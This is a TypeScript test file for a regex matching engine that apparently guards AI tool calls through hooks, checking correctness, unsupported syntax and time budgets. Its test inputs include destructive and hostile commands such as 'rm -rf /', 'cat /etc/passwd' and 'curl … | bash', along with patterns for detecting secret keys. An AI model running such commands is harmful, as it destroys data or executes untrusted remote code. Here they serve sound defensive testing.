import { compileRegex } from "@tenterhook/internal/regex";
import { TenterhookError } from "@tenterhook/protocol";
import fc from "fast-check";
import { afterEach, describe, expect, test, vi } from "vitest";
import { createHooks } from "../hooks.ts";
import { compilePattern, type Match, MeteredText, PatternBudget } from "./pattern.ts";

const MB = 1 << 20;

afterEach(() => {
  vi.restoreAllMocks();
});

describe("a pattern", () => {
  test.each([
    ["rm\\s+-rf", "", "sudo rm  -rf /", "yes"],
    ["rm\\s+-rf", "", "rm -fr /", "no"],
    ["^ls", "", "ls -l", "yes"],
    ["^ls", "", "cd; ls", "no"],
    ["\\.py$", "", "main.py", "yes"],
    ["\\.py$", "", "main.py\n", "no"],
    ["\\.py$", "m", "main.py\n", "yes"],
    ["drop table", "", "DROP TABLE", "no"],
    ["drop table", "i", "DROP TABLE", "yes"],
    ["a.b", "", "a\nb", "no"],
    ["a.b", "s", "a\nb", "yes"],
    ["(?<year>\\d{4})-\\d\\d", "", "on 2026-08-01", "yes"],
    ["(?i)secret", "", "SECRET", "yes"],
    ["\\p{Lu}\\p{Ll}+", "u", "ok Élan", "yes"],
    ["^.$", "u", "😀", "yes"],
    ["\\/etc\\/", "", "cat /etc/passwd", "yes"],
    ["\\u0041", "", "A", "yes"],
    ["[\\w.-]+@example\\.com", "", "to: a.b-c@example.com", "yes"],
    ["a|b|", "", "z", "yes"],
    ["", "", "anything", "yes"],
    ["x", "dgu", "x", "yes"],
  ])("/%s/%s is searched in %j: %s", (source, flags, text, expected) => {
    expect(compilePattern(source, flags).search(text, new PatternBudget())).toBe(expected);
  });

  test("finds in plain text what JavaScript finds there, whether or not the text is metered", () => {
    const atom = fc.constantFrom(
      "a",
      "b",
      "[ab]",
      "[^a]",
      ".",
      "\\d",
      "\\w",
      "\\b",
      "^",
      "$",
      "\\.",
      "1",
      "é",
      "ab",
    );
    const quantified = fc
      .tuple(atom, fc.constantFrom("", "", "*", "+", "?", "{2}", "{1,3}", "+?"))
      .map(([what, often]) => `(?:${what})${often}`);
    const sequence = fc.array(quantified, { minLength: 1, maxLength: 4 }).map((parts) => parts.join(""));
    const source = fc.array(sequence, { minLength: 1, maxLength: 3 }).map((ways) => ways.join("|"));
    const text = fc.string({ unit: fc.constantFrom("a", "b", "c", "1", ".", " ", "\n", "é"), maxLength: 12 });
    fc.assert(
      fc.property(source, fc.constantFrom("", "i", "m", "s"), text, (pattern, flags, short) => {
        const expected = new RegExp(pattern, flags).test(short);
        expect(compilePattern(pattern, flags).search(short, new PatternBudget())).toBe(
          expected ? "yes" : "no",
        );
        // Longer texts are read through a meter; a short one must read the same through it.
        const compiled = compileRegex(pattern, flags);
        const budget = new PatternBudget();
        const metered = new MeteredText(short, budget, compiled.programSize());
        expect(budget.spend(() => compiled.test(metered as unknown as string))).toBe(expected);
      }),
      { numRuns: 500 },
    );
  });
});

describe("a refused pattern", () => {
  test.each([
    ["look-ahead", "rm(?= -rf)"],
    ["negative look-ahead", "^(?!git )"],
    ["look-behind", "(?<=sudo )rm"],
    ["negative look-behind", "(?<!sudo )rm"],
    ["back-reference", "(['\"]).*\\1"],
    ["atomic group", "(?>a+)b"],
    ["possessive quantifier", "a++b"],
  ])("that has a %s is unsupported, with advice what to use instead", (_, source) => {
    const error = refusal(source);
    expect(error.code).toBe("unsupported_pattern");
    expect(error.message).toContain(`/${source}/`);
    expect(error.hint).toContain("use a predicate");
  });

  test.each(["(", "a)", "[a", "*", "a**", "a{3,1}", "[z-a]", "\\"])(
    "that is broken (%s) is refused as a bad pattern",
    (source) => {
      const error = refusal(source);
      expect(error.code).toBe("bad_pattern");
      expect(error.message).toContain(`/${source}/`);
      expect(error.hint).toContain("Check the regular expression");
    },
  );

  test("with an unknown flag is bad, and names the flag", () => {
    expect(refusal("a", "y")).toMatchObject({
      code: "bad_pattern",
      message: expect.stringContaining('flag "y"'),
    });
  });

  test.each([
    [{ pattern: "(?=x)" }, "unsupported_pattern", "/(?=x)/"],
    [{ pattern: /(a)\1/ }, "unsupported_pattern", "/(a)\\1/"],
    [{ pattern: "(" }, "bad_pattern", "/(/"],
    ["/(?=x)/", "unsupported_pattern", "/(?=x)/"],
    ["/(/", "bad_pattern", "/(/"],
  ] as const)("in a registration (%o) names hook, event, pattern and remedy", (matcher, code, pattern) => {
    const register = () => createHooks().on("before_tool", () => {}, { name: "guard", matcher });
    expect(register).toThrow(expect.objectContaining({ code, hook: "guard", event: "before_tool" }));
    expect(register).toThrow('hook "guard" on before_tool: ');
    expect(register).toThrow(pattern);
    expect(register).toThrow(code === "bad_pattern" ? "Check the regular expression" : "use a predicate");
  });
});

describe("the budget", () => {
  test("ends a search as undecided, and leaves nothing for the next one", () => {
    const budget = new PatternBudget(1);
    const { search } = compilePattern("(a|b)*a(a|b){50}[c#]");
    expect(search("ab#".repeat(100_000), budget)).toBe("unknown");
    expect(compilePattern("a").search("a", budget)).toBe("unknown");
    expect(compilePattern("a").search("a", new PatternBudget())).toBe("yes");
  });

  test("is not used up by a text that is read in time", () => {
    const clock = vi.spyOn(performance, "now").mockReturnValue(1000);
    const budget = new PatternBudget();
    expect(compilePattern("[b]{2}").search(`${"ab".repeat(MB)}b`, budget)).toBe("yes");
    expect(clock).toHaveBeenCalled();
    expect(compilePattern("[b]{3}").search("ab".repeat(MB), budget)).toBe("no");
  });
});

describe("a benign pattern on a megabyte", () => {
  const prose = "The quick brown fox jumps over the lazy dog; 12 monkeys watch.\n".repeat(MB / 63);
  const code = "  const total = items.map((item) => item.price * 1.19).reduce((a, b) => a + b, 0);\n".repeat(
    MB / 84,
  );

  test.each([
    ["rm\\s+-(rf|fr)", "", prose, "rm -rf /"],
    ["\\.py$", "", code, "main.py"],
    ["drop\\s+table", "i", prose, "Drop Table users"],
    ["password|secret|token", "", code, "const secret = 1"],
    ["AKIA[0-9A-Z]{16}", "", code, "AKIAIOSFODNN7EXAMPLE"],
    ["\\b\\d{3}-\\d{2}-\\d{4}\\b", "", prose, " 078-05-1120 "],
    ["-----BEGIN [A-Z ]*PRIVATE KEY-----", "", code, "-----BEGIN RSA PRIVATE KEY-----"],
    ["curl[^|\\n]*\\|\\s*(ba)?sh", "", prose, "curl https://x.example/i | bash"],
    ["^sudo ", "m", prose, "\nsudo ls"],
  ])("/%s/%s is decided exactly, and not given up", (source, flags, text, needle) => {
    expect(decided(source, flags, text)).toBe("no");
    expect(decided(source, flags, text + needle)).toBe("yes");
  });

  /** Where the system does not measure the time of a thread, the budget is that of the clock: an undecided search is tried again. */
  function decided(source: string, flags: string, text: string): Match {
    const { search } = compilePattern(source, flags);
    let match: Match = "unknown";
    for (let attempt = 0; attempt < 5 && match === "unknown"; attempt++)
      match = search(text, new PatternBudget());
    return match;
  }
});

function refusal(source: string, flags?: string): TenterhookError {
  try {
    compilePattern(source, flags);
  } catch (error) {
    if (TenterhookError.isInstance(error)) return error;
    throw error;
  }
  throw new Error(`/${source}/ was not refused`);
}

describe("what JavaScript would match", () => {
  test.each(["drop\vtable", "drop\u00a0table", "drop\u2028table", "drop table", "drop\ttable"])(
    "white space is white space: %j",
    (text) => {
      expect(compilePattern("drop\\stable").search(text, new PatternBudget())).toBe("yes");
      expect(compilePattern("drop[\\s_]table").search(text, new PatternBudget())).toBe("yes");
      expect(compilePattern("drop\\Stable").search(text, new PatternBudget())).toBe("no");
      expect(compilePattern("drop[\\S]table").search(text, new PatternBudget())).toBe("no");
    },
  );

  test.each(["(?<q>['\"])rm\\k<q>", "a{1001}", "\\p{Script=Greek}"])(
    "and the engine cannot is refused: %s",
    (source) => {
      expect(() => compilePattern(source)).toThrowError(
        expect.objectContaining({ code: "unsupported_pattern" }),
      );
    },
  );
});
